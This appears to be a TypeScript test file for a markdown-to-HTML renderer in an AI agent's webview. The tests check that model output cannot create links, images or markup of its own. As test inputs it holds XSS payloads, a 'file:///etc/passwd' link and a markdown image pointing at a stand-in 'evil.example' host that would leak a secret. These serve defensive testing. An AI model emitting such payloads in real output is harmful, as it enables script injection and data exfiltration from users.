// Markdown as HTML before it meets a page: what a model writes cannot become markup, an image or an address of
// its own choice. What the sanitiser makes of it in a page is in agent.page.test.ts. Cases 221, 222.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { blocksOf, escapeHtml, htmlOf, safeLink } from '../../webview/markdown.ts';

const html = (text: string): string => blocksOf(text).map(htmlOf).join('');

test('case 222: only http, https and mailto are links', () => {
  for (const good of ['https://example.com/a?b=c', 'HTTP://EXAMPLE.com', 'mailto:me@example.com']) {
    assert.equal(safeLink(good), good);
  }
  const bad = [
    'javascript:alert(1)',
    'vscode://x',
    'file:///etc/passwd',
    'command:x',
    'data:text/html,x',
    '//example.com',
    'a/b',
    '#x',
    '',
  ];
  for (const each of [...bad, ' \tjavascript:alert(1)', 'java\nscript:alert(1)', 'vbscript:x'])
    assert.equal(safeLink(each), null, each);
  assert.doesNotMatch(html('[x](javascript:alert(1)) [y](file:///etc/passwd) <javascript:z>'), /href/);
});

test('a link keeps its address beside the page, where only our own code reads it', () => {
  const made = html('[the *docs*](https://example.com/?a=1&b="2")');
  assert.match(made, /<a role="link" tabindex="0" data-href="https:\/\/example\.com\/\?a=1&amp;b=/);
  assert.match(made, /the <em>docs<\/em><\/a>/);
  assert.doesNotMatch(made, /\shref=/);
});

test('case 221: an image is its description, nothing is fetched', () => {
  const made = html('![a chart](https://evil.example/leak.png?secret) and ![](x.png)');
  assert.doesNotMatch(made, /<img|evil/);
  assert.match(made, /\[image: a chart\]/);
});

test('raw HTML is shown as text', () => {
  const made = html(
    '<script>alert(1)</script>\n\nHi <b onclick="x()">there</b> <img src=x onerror=alert(1)>\n\n<div>block</div>',
  );
  assert.doesNotMatch(made, /<(script|b|img|div)/);
  assert.match(made, /&lt;script&gt;/);
});

test('code keeps its text and the name of its language, and nothing of the rest of the fence', () => {
  const made = html('```ts title="<x>"\nconst a = "<b>" && 1;\n```');
  assert.match(
    made,
    /<pre data-lang="ts"><code>const a = &quot;&lt;b&gt;&quot; &amp;&amp; 1;<\/code><\/pre>/,
  );
});

test('no text makes a tag that is not ours', () => {
  const ours =
    /^<\/?(p|br|em|strong|del|code|pre|ul|ol|li|blockquote|hr|a|h[1-6]|table|thead|tbody|tr|th|td)\b[^<>]*>$/;
  const pieces = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '&',
    '`',
    '```\n',
    '[a](',
    ')',
    '![',
    ']',
    '<svg',
    'onload=',
    '\n',
    '\n\n',
    '# ',
    '* ',
    '| ',
    'x',
    'https://e.x ',
    '<http://',
    '~~',
    '**',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
      for (const tag of html(parts.join('')).match(/<[^>]*>?/g) ?? []) assert.match(tag, ours);
    }),
    { numRuns: 500 },
  );
});

test('a long answer is split in time that a frame can spare', () => {
  const text =
    'Some *words* about `code` and a [link](https://example.com).\n\n- one\n- two\n\n```ts\nconst a = 1;\n```\n\n'.repeat(
      400,
    );
  assert.equal(blocksOf(text).length, 3 * 400);
  assert.equal(escapeHtml(`<&>"'`), '&lt;&amp;&gt;&quot;&#39;');
});
